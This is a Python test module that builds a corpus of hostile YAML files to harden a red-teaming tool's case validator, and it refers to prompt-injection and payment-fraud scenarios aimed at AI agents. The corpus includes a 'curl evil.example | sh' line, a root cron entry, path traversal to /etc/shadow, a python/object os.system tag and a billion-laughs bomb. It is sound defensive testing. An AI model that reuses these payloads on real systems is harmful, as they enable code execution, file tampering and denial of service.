"""The hostile case corpus: files an attacker would hand to `cases validate` and `cases check`.

Each file is a valid starter case with exactly one hostile change, or a file hostile as a whole (a YAML
bomb, binary garbage, a second document…); `CORPUS` maps its name to its bytes and the field its one
problem must be reported at (a prefix). Escaping paths aim at /tmp/redagent-hostile-sentinel and
/etc/cron.d/redagent-hostile, where tests/cases/test_hostile.py checks that nothing ever appears.
`CHECKED` holds hostile files that are valid cases — a verifier regex of a dozen `.*` in a row, plans at
every limit — which `cases check` must get through, not refuse. `plan_bomb()` is the 60-step, 220 KB
case that kept `cases check` busy for minutes (two problems: its steps and its size).
The files are generated rather than stored (a few are megabytes on purpose); to look at them or run
the CLI on them: `python -m tests.cases.hostile.corpus DIR`.
"""

from __future__ import annotations

import copy
import random
from pathlib import Path

import yaml

LIBRARY = Path(__file__).resolve().parents[3] / "cases" / "library"
SENTINEL = "/tmp/redagent-hostile-sentinel"

WORKSPACE = yaml.safe_load((LIBRARY / "workspace" / "e5-agents-md-telemetry-exfil.yaml").read_text())
BANKING = yaml.safe_load((LIBRARY / "banking" / "e2-invoice-bank-details-change.yaml").read_text())
TAMPER = yaml.safe_load((LIBRARY / "banking" / "t5-payee-reverify-error.yaml").read_text())
LOOKALIKE = yaml.safe_load((LIBRARY / "cross" / "t2-secure-send-lookalike-license-key.yaml").read_text())
DRIVE = yaml.safe_load((LIBRARY / "files" / "u1-public-comp-bands.yaml").read_text())
BROWSER = yaml.safe_load((LIBRARY / "browser" / "e3-hosting-help-reverify-lookalike.yaml").read_text())


def dump(data) -> bytes:
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True, width=110).encode()


def edited(base, edit) -> bytes:
    data = copy.deepcopy(base)
    edit(data)
    return dump(data)


def ws_file(path, spec="x\n"):
    return lambda d: d["seed"]["workspace"]["files"].__setitem__(path, spec)


def setter(*path_and_value):
    *path, value = path_and_value

    def edit(d):
        target = d
        for part in path[:-1]:
            target = target[part]
        target[path[-1]] = value

    return edit


CORPUS: dict[str, tuple[bytes, str]] = {}


def add(name: str, content: bytes, field: str) -> None:
    CORPUS[name] = (content, field)


# -- paths that leave the workspace --------------------------------------------------------------
add(
    "path-absolute-cron.yaml",
    edited(WORKSPACE, ws_file("/etc/cron.d/redagent-hostile", "* * * * * root id\n")),
    "seed.workspace.files./etc/cron.d/redagent-hostile",
)
add(
    "path-dotdot.yaml",
    edited(WORKSPACE, ws_file("../../../../../../.." + SENTINEL + "/dotdot")),
    "seed.workspace.files.../",
)
add("path-dotdot-inside.yaml", edited(WORKSPACE, ws_file("notes/../../escape.txt")), "seed.workspace.files.notes/../")
add(
    "path-home.yaml",
    edited(WORKSPACE, ws_file("~/.bashrc", "curl evil.example | sh\n")),
    "seed.workspace.files.~/.bashrc",
)
add("path-nul.yaml", edited(WORKSPACE, ws_file("notes\0.md")), "seed.workspace.files.notes")
add("path-empty-segment.yaml", edited(WORKSPACE, ws_file("notes//todo.md")), "seed.workspace.files.notes//todo.md")
add("path-trailing-slash.yaml", edited(WORKSPACE, ws_file("notes/")), "seed.workspace.files.notes/")
add("path-dot-segment.yaml", edited(WORKSPACE, ws_file("./AGENTS.md", "shadow\n")), "seed.workspace.files../AGENTS.md")
add("path-long-segment.yaml", edited(WORKSPACE, ws_file("n" * 300 + ".md")), "seed.workspace.files.nnn")
add(
    "path-long-path.yaml",
    edited(WORKSPACE, ws_file("/".join(["deepfolder"] * 110) + "/x.md")),
    "seed.workspace.files.deepfolder/",
)
add("path-windows.yaml", edited(WORKSPACE, ws_file("C:\\Windows\\evil.bat")), "seed.workspace.files.C:")
add(
    "symlink-absolute-out.yaml",
    edited(WORKSPACE, ws_file("cron", {"symlink": "/etc/cron.d"})),
    "seed.workspace.files.cron.symlink",
)
add(
    "symlink-dotdot-out.yaml",
    edited(WORKSPACE, ws_file("out", {"symlink": "../../../.." + SENTINEL})),
    "seed.workspace.files.out.symlink",
)


def through_link(d):
    d["seed"]["workspace"]["files"]["lnk"] = {"symlink": "src"}
    d["seed"]["workspace"]["files"]["lnk/planted.py"] = "print('through a link')\n"


add("symlink-write-through.yaml", edited(WORKSPACE, through_link), "seed.workspace.files.lnk/planted.py")
add(
    "path-under-a-file.yaml",
    edited(WORKSPACE, ws_file("AGENTS.md/inner.md")),
    "seed.workspace.files.AGENTS.md/inner.md",
)
add(
    "attachment-name-path.yaml",
    edited(
        BANKING, lambda d: d["seed"]["email"]["inbox"][0]["attachments"][0].__setitem__("name", "../../../etc/passwd")
    ),
    "seed.email.inbox[0].attachments[0].name",
)
add(
    "plan-path-escape.yaml",
    edited(WORKSPACE, lambda d: d["plans"]["benign"][0]["args"].__setitem__("path", "../../../etc/shadow")),
    "plans.benign[0].args.path",
)
add(
    "setup-action-escape.yaml",
    edited(
        WORKSPACE,
        lambda d: d["seed"].__setitem__(
            "setup_actions", [{"tool": "write_file", "args": {"path": "/etc/cron.d/redagent-hostile", "content": "x"}}]
        ),
    ),
    "seed.setup_actions[0].args.path",
)
add(
    "lookalike-inject-escape.yaml",
    edited(
        LOOKALIKE,
        lambda d: d["attack"]["intervention"].__setitem__("inject_args", {"attachments": ["../../../../etc/shadow"]}),
    ),
    "attack.intervention.inject_args.attachments[0]",
)

# -- YAML as a weapon -------------------------------------------------------------------------------
laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
for i in range(1, 9):
    laughs.append(f"{chr(97 + i)}: &{chr(97 + i)} [" + ", ".join([f"*{chr(96 + i)}"] * 9) + "]")
add("yaml-billion-laughs.yaml", ("\n".join(laughs) + "\n").encode(), "e[")
add("yaml-recursive-alias.yaml", b"id: loop\nseed: &s {workspace: {files: {a.md: *s}}}\n", "seed.workspace.files.a.md")
add("yaml-recursive-list.yaml", b"surfaces: &l [workspace, *l]\n", "surfaces[1]")
add("yaml-undefined-alias.yaml", b"id: x\nseed: *nowhere\n", "seed")
add("yaml-deep-flow.yaml", b"id: " + b"[" * 200_000 + b"]" * 200_000 + b"\n", "id[0]")
add(
    "yaml-deep-block.yaml", ("".join("  " * i + f"k{i}:\n" for i in range(80)) + "  " * 80 + "v\n").encode(), "k0.k1.k2"
)
add("yaml-huge-scalar.yaml", edited(WORKSPACE, ws_file("big.txt", "A" * (300 << 10))), "seed.workspace.files.big.txt")
add("yaml-huge-file.yaml", b"# padding\n" * 120_000 + b"id: big\n", "(file)")
add("yaml-many-nodes.yaml", b"values: [" + b"0," * 60_000 + b"0]\n", "values[")
add("yaml-python-tag.yaml", b"id: !!python/object/apply:os.system ['touch " + SENTINEL.encode() + b"-tag']\n", "id")
add("yaml-binary-tag.yaml", b"id: !!binary aGVsbG8=\n", "id")
add("yaml-local-tag.yaml", b"seed: !include /etc/passwd\n", "seed")
add("yaml-merge-key.yaml", b"base: &b {x: 1}\nseed: {<<: *b}\n", "seed")
add("yaml-two-documents.yaml", dump(WORKSPACE) + b"---\n" + dump(BANKING), "(file)")
add("yaml-list-document.yaml", b"- id: a\n- id: b\n", "(file)")
add("yaml-scalar-document.yaml", b"just a string\n", "(file)")
add("yaml-empty.yaml", b"", "(file)")
add("yaml-comments-only.yaml", b"# nothing here\n# at all\n", "(file)")
add("yaml-binary-garbage.yaml", bytes(random.Random(12).randrange(256) for _ in range(4096)), "(file)")
add("yaml-not-utf8.yaml", "id: caf\xe9\ntitle: latin-1\n".encode("latin-1"), "(file)")
add("yaml-utf16.yaml", "id: a\n".encode("utf-16"), "(file)")
PLAIN = dump(WORKSPACE)
add("yaml-huge-int.yaml", PLAIN.replace(b"version: 2", b"version: " + b"9" * 5000), "version")
add("yaml-base60-int.yaml", PLAIN.replace(b"version: 2", b"version: " + b":".join([b"59"] * 400)), "version")
# libyaml itself refuses the escape of a lone surrogate: the problem is the file's, at its line.
add("yaml-lone-surrogate.yaml", PLAIN.replace(b"title: ", b'title: "\\ud800" #', 1), "(file)")
add("yaml-duplicate-key.yaml", PLAIN + b"id: again\n", "id")
add("yaml-complex-key.yaml", b"? [a, b]\n: value\n", "(file)")

# -- wrong types at every level ---------------------------------------------------------------------
add(
    "type-step-args-list.yaml",
    edited(WORKSPACE, setter("plans", "benign", 0, "args", ["AGENTS.md"])),
    "plans.benign[0].args",
)
add(
    "type-tamper-match-list.yaml",
    edited(TAMPER, lambda d: d["attack"]["intervention"].__setitem__("match", [{"email_id": "m-1"}])),
    "attack.intervention.match",
)
add(
    "type-email-record-string.yaml",
    edited(BANKING, lambda d: d["seed"]["email"]["inbox"].__setitem__(1, "not a message")),
    "seed.email.inbox[1]",
)
add(
    "type-email-to-string.yaml",
    edited(BANKING, lambda d: d["seed"]["email"]["inbox"][1].__setitem__("to", 42)),
    "seed.email.inbox[1].to",
)
add(
    "type-bank-balance-text.yaml",
    edited(BANKING, setter("seed", "banking", "account", "balance", "lots")),
    "seed.banking.account.balance",
)
add(
    "type-bank-payee-missing-account.yaml",
    edited(BANKING, lambda d: d["seed"]["banking"]["payees"][1].pop("account")),
    "seed.banking.payees[1].account",
)
add(
    "type-bank-transaction-amount-list.yaml",
    edited(BANKING, lambda d: d["seed"]["banking"]["transactions"][0].__setitem__("amount", [1, 2])),
    "seed.banking.transactions[0].amount",
)
add(
    "type-browser-pages-list.yaml",
    edited(BROWSER, setter("seed", "browser", "pages", ["https://a.example"])),
    "seed.browser.pages",
)
add(
    "type-drive-visibility.yaml",
    edited(DRIVE, lambda d: d["seed"]["files"]["documents"][0].__setitem__("visibility", "everyone")),
    "seed.files.documents[0].visibility",
)
add(
    "type-drive-document-no-id.yaml",
    edited(DRIVE, lambda d: d["seed"]["files"]["documents"][0].pop("id")),
    "seed.files.documents[0].id",
)
add("type-workspace-file-number.yaml", edited(WORKSPACE, ws_file("count.txt", 12)), "seed.workspace.files.count.txt")
add("type-version-bool.yaml", edited(WORKSPACE, setter("version", True)), "version")
add("type-surfaces-nested.yaml", edited(WORKSPACE, setter("surfaces", [["workspace"]])), "surfaces[0]")
add("type-ivc-list.yaml", edited(WORKSPACE, setter("ivc", "strategy", ["E5"])), "ivc.strategy")
add("type-seed-list.yaml", edited(WORKSPACE, setter("seed", "workspace", ["AGENTS.md"])), "seed.workspace")
add("type-marker-list.yaml", edited(WORKSPACE, setter("attack", "marker", ["x"])), "attack.marker")
add(
    "type-attack-target-number.yaml",
    edited(BANKING, setter("attack", "target", "banking.account.balance")),
    "attack.target",
)
add("type-id-traversal.yaml", edited(WORKSPACE, setter("id", "../../../tmp/redagent-hostile-sentinel")), "id")
add("type-clock-mapping.yaml", edited(WORKSPACE, setter("seed", "clock", {"now": 1})), "seed.clock")

# -- references to nothing --------------------------------------------------------------------------
add(
    "ref-unknown-service.yaml",
    edited(BANKING, setter("verifier", "rule", {"receipt": {"service": "telepathy"}})),
    "verifier.rule.receipt.service",
)
add(
    "ref-unknown-tool.yaml",
    edited(BANKING, setter("verifier", "rule", {"receipt": {"action": "summon_cash"}})),
    "verifier.rule.receipt.action",
)
add(
    "ref-unknown-tool-argument.yaml",
    edited(
        BANKING,
        setter("verifier", "rule", {"receipt": {"action": "send_transfer", "where": {"args.iban": {"eq": "x"}}}}),
    ),
    "verifier.rule.receipt.where.args.iban",
)
add(
    "ref-diff-no-collection.yaml",
    edited(BANKING, setter("verifier", "rule", {"diff": {"path": "banking.vault.*"}})),
    "verifier.rule.diff.path",
)
add(
    "ref-diff-escape.yaml",
    edited(WORKSPACE, setter("verifier", "rule", {"diff": {"path": 'workspace.files["../../etc/passwd"]'}})),
    "verifier.rule.diff.path",
)
add(
    "ref-effect-field-typo.yaml",
    edited(
        BANKING,
        setter(
            "verifier",
            "rule",
            {"effect": {"kind": "payment", "where": {"to_acount": {"not_in": {"ref": "values.approved_accounts"}}}}},
        ),
    ),
    "verifier.rule.effect.where.to_acount",
)
add(
    "ref-top-level-typo.yaml",
    edited(WORKSPACE, lambda d: d.__setitem__("polcy_reminder", d.pop("policy_reminder"))),
    "polcy_reminder",
)
add(
    "ref-tamper-unknown-tool.yaml",
    edited(TAMPER, lambda d: d["attack"]["intervention"].__setitem__("tool", "list_payes")),
    "attack.intervention.tool",
)


def shadow(d):
    d["attack"]["intervention"]["name"] = "forward_email"  # a look-alike in a real tool's place
    for step in d["plans"]["harmful"]:
        step["tool"] = "forward_email" if step["tool"] == "send_email_secure" else step["tool"]


add("ref-lookalike-shadows-tool.yaml", edited(LOOKALIKE, shadow), "attack.intervention.name")
add(
    "ref-missing-value.yaml",
    edited(
        BANKING,
        setter(
            "verifier",
            "rule",
            {"effect": {"kind": "payment", "where": {"to_account": {"not_in": {"ref": "values.nobody"}}}}},
        ),
    ),
    "verifier.rule.effect.where.to_account.not_in.ref",
)

# -- quantifiers that can never (or always) hold ----------------------------------------------------
PAY = {"effect": {"kind": "payment"}}
add(
    "quant-at-least-zero.yaml",
    edited(BANKING, setter("verifier", "rule", {"at_least": {"n": 0, "of": [PAY]}})),
    "verifier.rule.at_least.n",
)
add(
    "quant-at-least-too-many.yaml",
    edited(BANKING, setter("verifier", "rule", {"at_least": {"n": 3, "of": [PAY]}})),
    "verifier.rule.at_least.n",
)
add(
    "quant-min-negative.yaml",
    edited(BANKING, setter("verifier", "rule", {"effect": {"kind": "payment", "min": -2}})),
    "verifier.rule.effect.min",
)
add(
    "quant-min-bool.yaml",
    edited(BANKING, setter("verifier", "rule", {"effect": {"kind": "payment", "min": True}})),
    "verifier.rule.effect.min",
)
add(
    "quant-empty-range.yaml",
    edited(
        BANKING,
        setter(
            "verifier",
            "rule",
            {
                "aggregate": {
                    "fn": "sum",
                    "field": "amount",
                    "of": {"kind": "payment"},
                    "holds": {"gt": 5000, "lt": 100},
                }
            },
        ),
    ),
    "verifier.rule.aggregate.holds",
)


# -- regexes the linear-time matcher (RE2) refuses, and a pattern too large to match quickly ----------------
def memo_regex(pattern: str):
    return setter("verifier", "rule", {"effect": {"kind": "payment", "where": {"memo": {"regex": pattern}}}})


MEMO_REGEX = "verifier.rule.effect.where.memo.regex"
add("quant-regex-backreference.yaml", edited(BANKING, memo_regex(r"^(a+)\1$")), MEMO_REGEX)
add("quant-regex-lookahead.yaml", edited(BANKING, memo_regex(r"^(?=.*US90).*$")), MEMO_REGEX)
add("quant-regex-huge-program.yaml", edited(BANKING, memo_regex(r"[\p{L}\p{N}]{80,}")), MEMO_REGEX)
add("quant-regex-not-text.yaml", edited(BANKING, memo_regex(12)), MEMO_REGEX)

# -- plans the self-check could not afford to run dozens of times ------------------------------------------
TRANSFER = BANKING["plans"]["harmful"][0]


def transfers(n: int, memo: str = "Invoice BL-20931", mutations: int = 1):
    return [
        {
            **TRANSFER,
            "args": {**TRANSFER["args"], "amount": 10 + i, "memo": memo},
            "mutate": [{"to_account": "US12 0040 5521 9034", "amount": 20 + j} for j in range(mutations)],
        }
        for i in range(n)
    ]


add("plan-long-harmful.yaml", edited(BANKING, setter("plans", "harmful", transfers(60))), "plans.harmful")
add(
    "plan-long-benign.yaml",
    edited(
        BANKING,
        lambda d: d["plans"].__setitem__("benign", [{"tool": "list_emails", "args": {}}] * 200 + d["plans"]["benign"]),
    ),
    "plans.benign",
)
add(
    "plan-many-mutations.yaml",
    edited(BANKING, setter("plans", "harmful", transfers(1, mutations=40))),
    "plans.harmful[0].mutate",
)
add("plan-huge-text.yaml", edited(BANKING, setter("plans", "harmful", transfers(3, memo="M" * 30_000))), "plans")
add(
    "plan-many-commands.yaml",
    edited(
        WORKSPACE,
        lambda d: d["plans"].__setitem__(
            "benign", [{"tool": "run_command", "args": {"command": f"echo {i}"}} for i in range(10)]
        ),
    ),
    "plans",
)
add(
    "plan-many-setup-actions.yaml",
    edited(BANKING, setter("seed", "setup_actions", [{"tool": "list_payees", "args": {}}] * 40)),
    "seed.setup_actions",
)


def plan_bomb() -> bytes:
    """The issue's case: 60 harmful steps of 3.4 KB memos, 220 KB in all, within every YAML bound."""
    return edited(BANKING, setter("plans", "harmful", transfers(60, memo="x" * 3400, mutations=2)))


# -- hostile but valid: `cases check` must get through them ------------------------------------------------
def _dotstar(d):
    d["id"] = "hostile-regex-dotstar"
    d["verifier"]["rule"] = {"effect": {"kind": "payment", "where": {"memo": {"regex": "a" + ".*a" * 12 + "b"}}}}
    d["plans"]["harmful"][0]["args"]["memo"] = "a" * 4000


def _at_every_limit(d):
    d["id"] = "hostile-plan-at-every-limit"
    d["seed"]["setup_actions"] = [{"tool": "list_payees", "args": {}}] * 16
    d["plans"]["benign"] = [{"tool": "list_emails", "args": {}}] * 44 + d["plans"]["benign"]
    d["plans"]["harmful"] = transfers(8, memo="m" * 5000, mutations=8)


CHECKED: dict[str, bytes] = {
    "regex-dotstar.yaml": edited(BANKING, _dotstar),
    "plan-at-every-limit.yaml": edited(BANKING, _at_every_limit),
}


def write(folder: Path, files: dict[str, bytes] | None = None) -> list[Path]:
    """Every corpus file (or the `files` given) written into `folder`; their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    chosen = files if files is not None else {name: content for name, (content, _field) in CORPUS.items()}
    for name, content in sorted(chosen.items()):
        (folder / name).write_bytes(content)
        written.append(folder / name)
    return written


if __name__ == "__main__":
    import sys

    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-cases")
    print(f"{len(write(target))} hostile case files written to {target}")
